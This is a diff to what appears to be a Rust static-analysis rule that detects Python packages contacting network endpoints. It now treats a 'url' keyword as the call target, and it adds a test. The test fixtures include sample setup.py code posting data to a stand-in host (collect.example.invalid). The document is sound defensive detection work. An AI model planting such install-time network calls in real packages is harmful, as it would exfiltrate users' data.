@@ -125,7 +125,12 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let context = checker.context();
     // Droppers contact a fixed address; build scripts download from URLs they compute from
     // versions and platforms, so a computed target at install time weighs less.
-    let constant_target = call.arguments.args.first().is_some_and(|a| {
+    let target_arg = call
+        .arguments
+        .args
+        .first()
+        .or_else(|| super::keyword(call, "url"));
+    let constant_target = target_arg.is_some_and(|a| {
         checker.fold(a).is_some()
             || checker
                 .scopes
@@ -167,7 +172,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     );
     super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Network);
     // The endpoint may only be visible once folded: `b64decode(URL)`, f-strings with a token.
-    if let Some(target) = call.arguments.args.first()
+    if let Some(target) = target_arg
         && !matches!(target, ruff_python_ast::Expr::StringLiteral(_))
     {
         let url = checker
@@ -240,6 +245,20 @@ mod tests {
         assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.5);
         let plain = "import http.client\ndef send(d):\n    c = http.client.HTTPSConnection('collect.example.invalid')\n    c.request('POST', '/', d)\n";
         assert!(max_severity("p/pkg/m.py", plain, "WH130") < 0.1);
+    }
+
+    #[test]
+    fn url_keyword_is_the_target() {
+        let found = crate::rules::testing::findings(
+            "p/setup.py",
+            "import requests\nrequests.post(url='https://collect.example.invalid/k', json={})\n",
+        );
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH130" && f.message.contains("collect.example.invalid")),
+            "{found:?}"
+        );
     }
 
     #[test]
